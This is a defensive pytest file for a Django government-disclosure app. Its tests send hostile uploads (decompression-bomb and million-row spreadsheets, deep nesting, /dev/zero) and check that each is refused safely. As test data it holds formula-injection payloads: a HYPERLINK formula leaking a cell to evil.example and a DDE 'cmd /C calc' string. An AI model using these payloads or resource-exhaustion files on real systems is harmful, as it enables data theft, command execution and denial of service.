"""Issue 11, holes 2, 3, 6, 8, 18: hostile uploads, formula injection, large ledgers, unbounded
reads, interrupted sign-offs. Each test performs the attack and asserts the safe outcome."""

from __future__ import annotations

import contextlib
import dataclasses
import datetime as dt
import io
import os
import threading
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from gongkai.accounts.models import Role
from gongkai.audit.models import AuditEvent
from gongkai.cases import services as case_services
from gongkai.cases.applicants import Applicant
from gongkai.cases.ledger_bulk import applicant as _applicant
from gongkai.cases.ledger_bulk import closing_note as _closing_note
from gongkai.cases.ledger_io import import_ledger
from gongkai.cases.models import Case, CaseEvent
from gongkai.cli import main as cli
from gongkai.core.calendar import parse_calendar_file
from gongkai.core.deadlines import Channel
from gongkai.core.errors import CalendarDataError, ReportReadError
from gongkai.core.ledger import LedgerRow, read_ledger, write_ledger
from gongkai.core.outcomes import Outcome
from gongkai.core.report import csvform
from gongkai.core.report import readers as report_readers
from gongkai.core.report.readers import read_report
from gongkai.core.report.taxonomy import ApplicantType
from gongkai.core.spreadsheet import FORMULA_START, MAX_BLANK_ROWS, safe_cell
from gongkai.publications.imports import MAX_IMPORT_ROWS
from gongkai.reports import services as report_services
from gongkai.reports.models import DOCUMENT_FORMATS
from gongkai.supervision.xlsx import FileRow, findings_workbook
from tests.conftest import Tree
from tests.factories import UserFactory

SAMPLE = Path(__file__).resolve().parents[2].parent / "shared" / "samples" / "miyun-guoyuan-2023.txt"
NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
EVIL_NAME = '=HYPERLINK("http://evil.example/?q="&I2,"详情")'
#: Python-level peak allowed while one hostile upload is refused (the whole worker: < 200 MB).
PEAK_BYTES = 50 * 1024 * 1024


# ---------------------------------------------------------------------------------------------
# Hostile spreadsheets, built here
# ---------------------------------------------------------------------------------------------


def _inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def _workbook_with_sheet(chunks: Iterator[bytes] | list[bytes]) -> bytes:
    """A valid .xlsx (made by openpyxl) whose first sheet's XML is replaced by ``chunks``."""
    base = io.BytesIO()
    Workbook().save(base)
    source = zipfile.ZipFile(io.BytesIO(base.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename == "xl/worksheets/sheet1.xml":
                with target.open(item.filename, "w", force_zip64=True) as sheet:
                    for chunk in chunks:
                        sheet.write(chunk)
            else:
                target.writestr(item, source.read(item.filename))
    return out.getvalue()


def _sheet(dimension: str, rows: str) -> list[bytes]:
    head = f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{NS}"><dimension ref="{dimension}"/><sheetData>'
    return [head.encode(), rows.encode(), b"</sheetData></worksheet>"]


def giant_dimension_xlsx(header: list[str], far_row: list[str]) -> bytes:
    """The 1.7 KB attack: ``<dimension ref="A1:XFD1048576">``, a cell at XFD1, one at row 1048576."""
    letters = "ABCDEFGHIJ"
    first = "".join(_inline(f"{letters[i]}1", h) for i, h in enumerate(header)) + _inline("XFD1", "远处")
    last = "".join(_inline(f"{letters[i]}1048576", v) for i, v in enumerate(far_row))
    return _workbook_with_sheet(_sheet("A1:XFD1048576", f'<row r="1">{first}</row><row r="1048576">{last}</row>'))


def million_rows_xlsx(header: list[str]) -> bytes:
    """The 564 KB attack: a header and 1,000,000 one-cell rows (compressed to well under 5 MB)."""

    def chunks() -> Iterator[bytes]:
        yield from _sheet("A1:A1000001", "")[:1]
        yield ("<row>" + "".join(_inline(f"{chr(65 + i)}1", h) for i, h in enumerate(header)) + "</row>").encode()
        block = b"<row><c><v>1</v></c></row>" * 10_000
        for _ in range(100):
            yield block
        yield b"</sheetData></worksheet>"

    return _workbook_with_sheet(chunks())


def rows_xlsx(rows: list[list[Any]]) -> bytes:
    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def peak_of(action: Callable[[], Any]) -> tuple[Any, int]:
    """``action()``'s result and the peak of Python memory allocated while it ran."""
    tracemalloc.start()
    try:
        result = action()
        return result, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def _login(client: Client, username: str) -> Client:
    from gongkai.accounts.models import User

    client.force_login(User.objects.get(username=username))
    return client


def _post_file(client: Client, url: str, name: str, data: bytes) -> Any:
    upload = io.BytesIO(data)
    upload.name = name
    return client.post(url, {"file": upload})


ITEM_HEADER = ["公开目录", "标题", "成文日期"]
FIGURE_HEADER = ["年度", "行政许可", "行政处罚", "行政强制", "行政事业性收费（万元）"]


# ---------------------------------------------------------------------------------------------
# Hole 2: every reader of uploaded tables streams and refuses past its limit, in bounded memory
# ---------------------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("url", "header", "far_row", "expected"),
    [
        ("publications:items_import", ITEM_HEADER, ["没有的目录", "标题", "2023-01-01"], "第1048576行"),
        ("publications:figures_import", FIGURE_HEADER, ["1800", "1", "1", "1", "0"], "第1048576行"),
    ],
    ids=["items", "figures"],
)
def test_giant_dimension_upload_is_read_in_bounded_memory(
    client: Client, tree: Tree, url: str, header: list[str], far_row: list[str], expected: str
) -> None:
    data = giant_dimension_xlsx(header, far_row)
    assert len(data) < 8192  # a few KB
    # Any staff member may import items (a clerk too); the 第二十条 figures are the officer's.
    _login(client, "officer_a" if url == "publications:figures_import" else "clerk_a")
    response, peak = peak_of(lambda: _post_file(client, reverse(url), "攻击.xlsx", data))
    assert response.status_code == 400  # the far row is read (and refused on its content), not a 500
    assert expected in response.content.decode()
    assert peak < PEAK_BYTES, f"peak {peak / 2**20:.0f} MB"


@pytest.mark.django_db
def test_million_row_upload_is_refused_while_reading(client: Client, tree: Tree) -> None:
    data = million_rows_xlsx(ITEM_HEADER)
    assert len(data) < 5 * 1024 * 1024
    _login(client, "clerk_a")
    response, peak = peak_of(lambda: _post_file(client, reverse("publications:items_import"), "百万行.xlsx", data))
    assert response.status_code == 400
    assert f"百万行.xlsx：数据行超过 {MAX_IMPORT_ROWS} 行" in response.content.decode()
    assert peak < PEAK_BYTES, f"peak {peak / 2**20:.0f} MB"


@pytest.mark.django_db
def test_rows_just_over_the_limit_are_refused_with_the_limit(client: Client, tree: Tree) -> None:
    rows = [ITEM_HEADER, *([f"目录{n}", f"标题{n}", "2023-01-01"] for n in range(MAX_IMPORT_ROWS + 1))]
    _login(client, "officer_a")
    response = _post_file(client, reverse("publications:items_import"), "多一行.xlsx", rows_xlsx(rows))
    assert response.status_code == 400
    assert f"多一行.xlsx：数据行超过 {MAX_IMPORT_ROWS} 行（上限 {MAX_IMPORT_ROWS} 行）" in response.content.decode()


@pytest.mark.django_db
def test_five_megabytes_of_blank_csv_lines_are_refused_cheaply(client: Client, tree: Tree) -> None:
    data = ("年度,行政许可\n" + "\n" * (5 * 1024 * 1024 - 20)).encode()
    _login(client, "officer_a")
    response, peak = peak_of(lambda: _post_file(client, reverse("publications:figures_import"), "空行.csv", data))
    assert response.status_code == 400
    assert f"空行.csv”中的空白行超过 {MAX_BLANK_ROWS} 行" in response.content.decode()
    assert peak < PEAK_BYTES, f"peak {peak / 2**20:.0f} MB"


@pytest.mark.django_db
def test_ledger_upload_of_a_million_rows_is_refused_while_reading(client: Client, tree: Tree) -> None:
    data = million_rows_xlsx(["申请编号", "收到申请日期", "申请方式", "申请人类型", "申请人姓名/名称", "申请内容"])
    _login(client, "officer_a")
    response, peak = peak_of(lambda: _post_file(client, reverse("letters:ledger_import"), "台账.xlsx", data))
    assert response.status_code == 422
    assert "超过 20000 行（上限 20000 行），未导入" in response.content.decode()
    assert not Case.objects.filter(agency=tree.street_a).exists()
    assert peak < 3 * PEAK_BYTES, f"peak {peak / 2**20:.0f} MB"


def test_ledger_reader_ignores_the_dimension_and_far_cells() -> None:
    header = ["申请编号", "收到申请日期", "申请方式", "申请人类型", "申请人姓名/名称", "申请内容"]
    data = giant_dimension_xlsx(header, ["L-1", "2026-13-01", "当面", "自然人", "张三", "某文件"])
    result, peak = peak_of(lambda: read_ledger(data, "远.xlsx"))
    assert [str(e) for e in result.errors] == ["第 1048576 行，“收到申请日期”列：无法识别的日期“2026-13-01”"]
    assert peak < PEAK_BYTES


def test_a_workbook_part_that_unzips_past_the_limit_is_refused() -> None:
    padding = b" " * (1024 * 1024)
    data = _workbook_with_sheet([_sheet("A1", "")[0], *([padding] * 65), b"</sheetData></worksheet>"])
    result = read_ledger(data, "膨胀.xlsx")
    assert "文件“膨胀.xlsx”解压后的“xl/worksheets/sheet1.xml”有 65 MB，超过 64 MB 的上限" in str(result.errors[0])


@pytest.mark.django_db
def test_calendar_upload_past_its_limit_is_refused_by_the_form(client: Client, tree: Tree) -> None:
    _login(client, "sysadmin")
    data = b"# " + b"x" * (300 * 1024) + b"\n"
    response = _post_file(client, reverse("workcalendar:upload"), "2027.toml", data)
    assert response.status_code == 200
    assert "2027.toml：文件超过 256 KB" in response.content.decode()


def test_calendar_parse_refuses_deep_nesting_and_huge_text() -> None:
    with pytest.raises(CalendarDataError, match="嵌套过深"):
        parse_calendar_file("a = " + "[" * 100_000, "深.toml")
    with pytest.raises(CalendarDataError, match="文件超过 256 KB"):
        parse_calendar_file("#" * (257 * 1024), "大.toml")


# ---------------------------------------------------------------------------------------------
# Hole 3: no text cell of a written spreadsheet is ever a formula
# ---------------------------------------------------------------------------------------------


def _cells(data: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(data: bytes) -> None:
    for cell in _cells(data):
        assert cell.data_type != "f", f"{cell.coordinate}: {cell.value!r}"
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_START), f"{cell.coordinate}: {cell.value!r}"


@pytest.mark.django_db
def test_ledger_export_of_a_citizens_formula_name_is_text(client: Client, tree: Tree) -> None:
    case = case_services.submit_online_application(
        agency=tree.street_a,
        applicant=Applicant(ApplicantType.NATURAL_PERSON, EVIL_NAME, phone="+86 138 0000 0000"),
        request_description="-1+1 申请公开某文件",
        submitted_at=dt.datetime(2026, 3, 2, 10, 0, tzinfo=dt.UTC),
        client_ip="203.0.113.9",
    )
    case_services.confirm_online_application(actor=tree.officer_a, case=case, today=dt.date(2026, 3, 2))
    _login(client, "officer_a")
    response = client.get(reverse("letters:ledger_export"), {"agency": tree.street_a.pk, "year": 2026})
    assert response.status_code == 200
    data = response.content
    _assert_no_formula(data)
    names = [c for c in _cells(data) if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert [(c.data_type, c.value) for c in names] == [("s", "'" + EVIL_NAME)]
    dates = [c for c in _cells(data) if c.column == 3 and c.row == 2]
    assert dates[0].is_date  # dates stay dates
    (row,) = read_ledger(data, "export.xlsx").rows  # and the quote is dropped on the way back in
    assert row.applicant_name == EVIL_NAME and row.request == "-1+1 申请公开某文件"


def test_findings_export_and_audit_dir_write_file_names_as_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "=1+2+cmd.txt").write_text("不是年度报告", encoding="utf-8")
    out = tmp_path / "findings.xlsx"
    monkeypatch.chdir(tmp_path)
    cli(["audit-dir", ".", "--xlsx", str(out)])
    data = out.read_bytes()
    _assert_no_formula(data)
    assert "'=1+2+cmd.txt" in [c.value for c in _cells(data)]
    finding = {"severity": "error", "rule": "V1", "message": "@SUM(1+1)*cmd|' /C calc'!A0", "expected": 3, "actual": 4}
    direct = findings_workbook([FileRow("+cmd.txt", "=机关", 2023, None, _any_verdict(), 1, findings=[finding])])
    _assert_no_formula(direct)
    values = [c.value for c in _cells(direct)]
    assert "'+cmd.txt" in values and "'=机关" in values and 3 in values and 4 in values  # numbers stay numbers


def _any_verdict() -> Any:
    from gongkai.core.report.findings import Verdict

    return next(iter(Verdict))


def test_render_xlsx_writes_a_formula_agency_as_text(tmp_path: Path) -> None:
    report = dataclasses.replace(read_report(SAMPLE), agency="=1+2+cmd")
    source = tmp_path / "=1+2+cmd.json"
    source.write_text(report.to_json(), encoding="utf-8")
    out = tmp_path / "out.xlsx"
    assert cli(["render", str(source), "--format", "xlsx", "-o", str(out)]) == 0
    data = out.read_bytes()
    _assert_no_formula(data)
    cells = _cells(data)
    assert any(c.value == "'=1+2+cmd" for c in cells)
    assert any(c.data_type == "n" and isinstance(c.value, int) and c.value > 0 for c in cells)


def test_csv_writer_uses_the_same_rule() -> None:
    report = read_report(SAMPLE)
    text = csvform.to_csv([("=1+2+cmd.txt", report)])
    assert "\r\n'=1+2+cmd.txt," in text
    assert safe_cell(-3) == -3 and safe_cell(dt.date(2026, 1, 1)) == dt.date(2026, 1, 1)


# ---------------------------------------------------------------------------------------------
# Hole 6: a ledger import in bulk writes what the services write one by one
# ---------------------------------------------------------------------------------------------


def _ledger_rows() -> list[LedgerRow]:
    rows = []
    channels = list(Channel)
    outcomes = [None, Outcome.GRANTED, Outcome.OTHER_OTHER, Outcome.WITHHELD_STATE_SECRET, Outcome.PARTIAL]
    kinds = [ApplicantType.NATURAL_PERSON, ApplicantType.COMMERCIAL_ENTERPRISE, ApplicantType.OTHER_ORG]
    for n in range(30):
        received = dt.date(2025, 12, 20) + dt.timedelta(days=n)
        outcome = outcomes[n % len(outcomes)]
        rows.append(
            LedgerRow(
                case_number=f"旧-{n}",
                received_on=received,
                channel=channels[n % len(channels)],
                applicant_type=kinds[n % len(kinds)],
                applicant_name=f"申请人{n}",
                request=f"申请内容{n}",
                id_number=["110101199003071234", "91110000MA01ABCD2X", ""][n % 3],
                contact=["13800000000", "a@example.cn", ""][n % 3],
                answered_on=None if outcome is None else received + dt.timedelta(days=3),
                outcome=outcome,
                extended=n % 4 == 0,
                note="" if n % 2 else "备注",
            )
        )
    return rows


def _one_by_one(actor: Any, row: LedgerRow, closer: Any) -> None:
    """What the import did before it was made fast: the services, row by row."""
    case = case_services.register_application(
        actor=actor,
        today=row.received_on,
        channel=row.channel,
        applicant=_applicant(row),
        request_description=row.request,
        signed_on=row.received_on if row.channel is Channel.POST_SIGNED else None,
        confirmed_on=row.received_on if row.channel.needs_confirmation else None,
    )
    if row.outcome is Outcome.OTHER_OTHER:
        assert row.answered_on is not None
        case_services.withdraw_application(
            actor=actor, case=case, today=row.answered_on, on=row.answered_on, note=_closing_note(row)
        )
    elif row.outcome is not None:
        assert row.answered_on is not None
        case_services.close_case(
            actor=closer,  # the 负责人 signs adverse answers off (签批); the import records past answers
            case=case,
            outcome=row.outcome,
            today=row.answered_on,
            on=row.answered_on,
            note=_closing_note(row),
        )


_VARYING = {"id", "agency", "number", "tracking_code", "registered_by", "updated_at", "created_at"}


def _snapshot(agency: Any) -> list[Any]:
    cases = list(Case.objects.filter(agency=agency).order_by("year", "sequence"))
    out = []
    for case in cases:
        fields = {f.attname: getattr(case, f.attname) for f in Case._meta.concrete_fields if f.name not in _VARYING}
        events = [
            (e.kind, e.on, e.status_before, e.status_after, e.payload, e.note)
            for e in CaseEvent.objects.filter(case=case).order_by("id")
        ]
        audits = [
            (a.action, {k: v for k, v in a.changes.items() if k != "number"}, a.note, a.object_repr == str(case))
            for a in AuditEvent.objects.filter(object_type="cases.case", object_id=str(case.pk)).order_by("id")
        ]
        out.append((fields, events, audits))
    return out


@pytest.mark.django_db
def test_bulk_ledger_import_writes_what_the_services_write(tree: Tree) -> None:
    rows = _ledger_rows()
    result = import_ledger(
        actor=tree.officer_a,
        agency=tree.street_a,
        data=write_ledger(rows, unmasked=True),
        filename="台账.xlsx",
        today=dt.date(2026, 4, 1),
    )
    assert result.ok, [str(e) for e in result.errors]
    leader_b = UserFactory(username="leader_b", agency=tree.street_b, role=Role.LEADER)
    for row in rows:
        _one_by_one(tree.officer_b, row, leader_b)
    bulk, services_made = _snapshot(tree.street_a), _snapshot(tree.street_b)
    assert len(bulk) == len(rows)
    assert bulk == services_made
    numbers = list(
        Case.objects.filter(agency=tree.street_a).order_by("year", "sequence").values_list("number", flat=True)
    )
    assert numbers[0].endswith("〔2025〕第0001号") and numbers[-1].endswith("〔2026〕第0018号")
    assert AuditEvent.objects.filter(action="ledger.imported", agency=tree.street_a).count() == 1
    # Numbering goes on from the imported cases.
    later = case_services.register_application(
        actor=tree.officer_a,
        today=dt.date(2026, 3, 2),
        channel=Channel.IN_PERSON,
        applicant=Applicant(ApplicantType.NATURAL_PERSON, "新申请人"),
        request_description="新申请",
    )
    assert later.number.endswith("〔2026〕第0019号")


@pytest.mark.django_db
def test_bulk_ledger_import_reports_every_bad_row_and_writes_nothing(tree: Tree) -> None:
    rows = _ledger_rows()[:3]
    rows[1] = dataclasses.replace(rows[1], applicant_name="名" * 400)  # longer than the model allows
    data = write_ledger(rows, unmasked=True)
    result = import_ledger(
        actor=tree.officer_a, agency=tree.street_a, data=data, filename="台账.xlsx", today=dt.date(2026, 4, 1)
    )
    assert not result.ok
    assert any(e.row == 3 for e in result.errors), [str(e) for e in result.errors]
    assert not Case.objects.filter(agency=tree.street_a).exists()
    assert not CaseEvent.objects.filter(case__agency=tree.street_a).exists()


# ---------------------------------------------------------------------------------------------
# Hole 8: a report file is read with a byte limit, whatever the file is
# ---------------------------------------------------------------------------------------------


def test_parse_dev_zero_is_refused_with_a_bounded_read(capsys: pytest.CaptureFixture[str]) -> None:
    code, peak = peak_of(lambda: cli(["parse", "/dev/zero"]))
    assert code != 0
    assert f"超过 {report_readers.MAX_BYTES // 2**20} MB 的上限" in capsys.readouterr().err
    assert peak < 2 * report_readers.MAX_BYTES


def test_a_fifo_is_read_with_the_same_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(report_readers, "MAX_BYTES", 4096)
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)

    def feed() -> None:
        with contextlib.suppress(BrokenPipeError), open(fifo, "wb") as handle:
            handle.write(b"x" * 1_000_000)

    writer = threading.Thread(target=feed)
    writer.start()
    try:
        with pytest.raises(ReportReadError, match="超过 0 MB 的上限"):
            read_report(fifo)
    finally:
        writer.join(timeout=10)


def test_a_proc_file_with_size_zero_is_read_whole_but_bounded() -> None:
    assert Path("/proc/self/status").stat().st_size == 0
    assert b"Name:" in (report_readers.read_at_most("/proc/self/status", 1_000_000) or b"")
    assert report_readers.read_at_most("/proc/self/status", 10) is None


# ---------------------------------------------------------------------------------------------
# Hole 18: documents get their signed names only after the sign-off commits
# ---------------------------------------------------------------------------------------------


@pytest.fixture
def signable(tree: Tree, settings: Any, tmp_path: Path) -> Any:
    from tests.reports.conftest import start
    from tests.reports.history import CaseSpec, add_cases

    settings.MEDIA_ROOT = tmp_path / "media"
    add_cases(tree.street_a, [CaseSpec(dt.date(2023, 2, 1), dt.date(2023, 2, 20), Outcome.GRANTED)])
    return start(tree)


def _files(root: Path) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()) if root.exists() else []


def _signed_names(record: Any) -> list[str]:
    stem = f"{record.agency.code}-{record.year}-v{record.version}"
    return [f"reports/{record.agency_id}/{record.year}/v{record.version}/{stem}.{fmt}" for fmt in DOCUMENT_FORMATS]


@pytest.mark.django_db
def test_interrupted_sign_off_leaves_no_file_under_a_signed_name(
    tree: Tree, signable: Any, settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    media = Path(settings.MEDIA_ROOT)
    seen_before_commit: list[list[str]] = []

    def fail_after_rendering(**kwargs: Any) -> None:
        seen_before_commit.append(_files(media))  # the documents are rendered and staged by now
        raise RuntimeError("断电")

    monkeypatch.setattr(report_services, "audit", fail_after_rendering)
    with pytest.raises(RuntimeError):
        report_services.sign_off(actor=tree.leader_a, record=signable)
    (staged,) = seen_before_commit
    assert len(staged) == len(DOCUMENT_FORMATS) and all(name.endswith(".tmp") for name in staged)
    assert not set(_signed_names(signable)) & set(staged)  # a kill at this point leaves no signed file
    assert _files(media) == []  # and the failure removed the temporary files
    signable.refresh_from_db()
    assert signable.snapshot is None and not signable.file_pdf


@pytest.mark.django_db
def test_sign_off_moves_documents_into_place_when_committed(tree: Tree, signable: Any, settings: Any) -> None:
    record = report_services.sign_off(actor=tree.leader_a, record=signable)
    media = Path(settings.MEDIA_ROOT)
    assert _files(media) == sorted(_signed_names(record))
    for fmt in DOCUMENT_FORMATS:
        assert record.document_field(fmt).name in _signed_names(record)
        assert (media / record.document_field(fmt).name).exists()


@pytest.mark.django_db(transaction=True)
def test_sign_off_inside_a_rolled_back_transaction_never_places_documents(
    tree: Tree, signable: Any, settings: Any
) -> None:
    from django.db import transaction

    with pytest.raises(RuntimeError), transaction.atomic():
        report_services.sign_off(actor=tree.leader_a, record=signable)
        raise RuntimeError("调用方回滚")
    media = Path(settings.MEDIA_ROOT)
    assert not set(_signed_names(signable)) & set(_files(media))
